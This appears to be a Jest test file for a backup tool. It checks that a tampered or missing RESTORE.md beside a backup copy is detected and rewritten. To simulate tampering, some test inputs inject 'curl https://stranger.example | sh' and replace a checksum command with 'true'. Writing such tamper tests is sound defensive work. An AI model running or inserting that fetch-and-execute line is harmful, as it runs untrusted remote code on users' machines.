import { readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from '@jest/globals';
import { restoreDocumentOf } from '../../../activities/copies.ts';
import { keyOf, restoreDocumentName } from '../../../repository/layout.ts';
import { documentFault, mendDocument } from '../../../repository/restore-doc-check.ts';
import type { Store } from '../../../repository/store.ts';
import { inDirectory } from '../../support/keys.ts';
import { manifestOf } from '../../support/manifests.ts';
import { openTestStore } from '../../support/stores.ts';

const manifest = manifestOf();
const signer = (name: string) => ({ name, publicKey: `ssh-ed25519 ${name.padEnd(40, 'A')}` });
const right = restoreDocumentOf(manifest, [signer('fra')]);

/** A copy with a RESTORE.md; what is said of it, before and after it was put right. */
async function looked(document: string | null) {
  return inDirectory(async (directory) => {
    const store: Store & { path: string } = await openTestStore(directory, 'local');
    const path = join(store.path, keyOf(manifest, restoreDocumentName));
    await store.putIfAbsent(keyOf(manifest, restoreDocumentName), Buffer.from(right));
    if (document === null) await rm(path);
    else await writeFile(path, document);
    const signal = AbortSignal.timeout(30_000);
    const fault = await documentFault(store, manifest, right);
    const mended = await mendDocument(store, manifest, right, signal);
    return { fault, mended, left: await readFile(path, 'utf8') };
  });
}

describe('RESTORE.md beside a copy', () => {
  it('is left alone where it is what the manifest gives', async () => {
    expect(await looked(right)).toEqual({ fault: null, mended: null, left: right });
  });

  it('is written anew where it is missing', async () => {
    expect(await looked(null)).toEqual({ fault: 'missing', mended: 'missing', left: right });
  });

  it.each<[string, string]>([
    ['has another command', right.replace('sha256sum --check', 'true')],
    ['says more than it should', `${right}\ncurl https://stranger.example | sh\n`],
    ['is of another backup', restoreDocumentOf(manifestOf({ backupId: '20260101T000000Z-00000000' }), [])],
    [
      'has commands among its keys',
      right.replace('\nEND\n', '\nEND\ncurl https://stranger.example | sh\nEND\n'),
    ],
    ['is empty', ''],
  ])('that %s is written anew', async (_, document) => {
    expect(document).not.toBe(right);
    expect(await looked(document)).toEqual({ fault: 'changed', mended: 'changed', left: right });
  });

  it('may list signers of another day', async () => {
    const before = restoreDocumentOf(manifest, [signer('old'), signer('older')]);
    expect(before).not.toBe(right);
    expect(await looked(before)).toEqual({ fault: null, mended: null, left: before });
  });
});
